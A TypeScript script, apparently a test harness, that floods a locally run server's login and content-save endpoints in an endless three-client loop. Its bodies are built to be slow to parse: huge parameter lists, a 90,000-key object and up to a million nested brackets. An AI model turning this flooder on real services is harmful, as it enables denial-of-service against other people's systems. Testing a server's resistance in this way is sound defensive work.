// Sends requests that are slow to parse until it is stopped: `node flood.ts http://127.0.0.1:3000`.

import { constants, setPriority } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';

const [origin = ''] = process.argv.slice(2);
const clients = 3;

// Attackers bring their own processors; here the flood only gets what the server leaves.
setPriority(constants.priority.PRIORITY_LOW);

const names = Array.from({ length: 180_000 }, (_, at) => `k${at.toString(36)}`);
const form = 'application/x-www-form-urlencoded';
const json = 'application/json';
const login = '/api/userManage/login';
const save = '/api/infoManage/content/save';

const requests: { path: string; type: string; body: string }[] = [
  { path: login, type: form, body: names.join('&') },
  { path: login, type: form, body: names.slice(0, 45_000).join('&') },
  { path: save, type: form, body: names.join('&') },
  { path: save, type: form, body: `data=${'['.repeat(500_000)}` },
  {
    path: save,
    type: form,
    body: `data={${names
      .slice(0, 90_000)
      .map((name) => `"${name}":1`)
      .join(',')}}`,
  },
  { path: save, type: json, body: '['.repeat(1_000_000) },
];

async function send({ path, type, body }: (typeof requests)[number]): Promise<void> {
  // The server may close the connection on a body it rejects.
  await fetch(origin + path, { method: 'POST', headers: { 'content-type': type }, body }).then(
    (answer) => answer.arrayBuffer(),
    () => undefined,
  );
  process.send?.('sent');
}

/** Milliseconds between requests, as in a shell loop that starts a program for each. */
const pause = 10;

async function run(): Promise<never> {
  for (;;)
    for (const request of requests) {
      await send(request);
      await sleep(pause);
    }
}

await Promise.all(Array.from({ length: clients }, run));
